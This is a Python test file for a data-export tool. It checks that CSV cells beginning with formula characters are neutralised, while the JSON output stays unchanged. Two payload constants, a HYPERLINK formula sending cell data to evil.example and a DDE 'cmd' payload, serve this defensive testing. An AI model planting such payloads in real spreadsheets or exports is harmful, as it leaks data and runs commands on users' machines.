"""CSV exports never start a cell with a formula; the JSON files keep every value unchanged."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from frictionless import validate

from keepopen.export.data import FORMULA_STARTS, export_data, neutralise_cell

LIBRARY = Path(__file__).parents[1] / "fixtures" / "citepage_site"
PAGE = "docs/testimony/lost-partner.md"

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
HOSTILE_SUMMARY = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "=", "-3 points", "+-3"],
)
def test_a_formula_start_gets_a_leading_quote(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "plain text", "2024-05-13", "-3", "+1.5", "12", " =1", "'=1", "a=b", "a@b.org"]
)
def test_other_text_and_plain_numbers_are_left_alone(text: str) -> None:
    assert neutralise_cell(text) == text


def test_the_rule_covers_owasps_list() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture
def exported(tmp_path: Path) -> Path:
    """The data package of a library whose title, summary and models start formulas."""
    library = tmp_path / "library"
    shutil.copytree(LIBRARY, library)
    page = library / PAGE
    text = page.read_text(encoding="utf-8")
    text = text.replace(
        "title: A writing partner lost overnight", f"title: {json.dumps(HOSTILE_TITLE)}"
    )
    text = text.replace(
        "summary: A writer describes losing a model they had drafted with for two years.",
        f"summary: {json.dumps(HOSTILE_SUMMARY)}",
    )
    text = text.replace("models: [gpt-4o]", 'models: ["@gpt-4o", "-o3"]')
    assert text.count("evil.example") == 1 and "@gpt-4o" in text
    page.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    export_data(library, out)
    return out


def _row(folder: Path, name: str, page_id: str) -> dict[str, str]:
    rows = csv.DictReader(io.StringIO((folder / name).read_text(encoding="utf-8")))
    return next(r for r in rows if r["id"] == page_id)


def test_csv_cells_are_neutralised(exported: Path) -> None:
    row = _row(exported, "testimony.csv", "lost-partner")
    assert row["title"] == "'" + HOSTILE_TITLE
    assert row["summary"] == "'" + HOSTILE_SUMMARY
    assert row["models"] == "'@gpt-4o; -o3"  # a list is one cell: only its start matters
    assert row["collected"] == "2026-02-20"  # dates are untouched
    for name in ("testimony.csv", "arguments.csv", "events.csv"):
        for cells in csv.reader(io.StringIO((exported / name).read_text(encoding="utf-8"))):
            for cell in cells:
                assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").isdigit(), cell


def test_json_keeps_the_values_exactly(exported: Path) -> None:
    rows = json.loads((exported / "testimony.json").read_text(encoding="utf-8"))
    row = next(r for r in rows if r["id"] == "lost-partner")
    assert row["title"] == HOSTILE_TITLE
    assert row["summary"] == HOSTILE_SUMMARY
    assert row["models"] == ["@gpt-4o", "-o3"]


def test_the_package_stays_valid(exported: Path) -> None:
    report = validate(exported / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_an_entry_the_bibliography_cannot_read_is_named_not_dropped_silently(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.checks.conftest import copy_library

    from keepopen.cli import main

    root = copy_library(tmp_path / "lib", "bib001-failed-block")
    code = main(["export", "data", "--root", str(root), "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert code == 1
    assert "BIB001" in err and "references/" in err
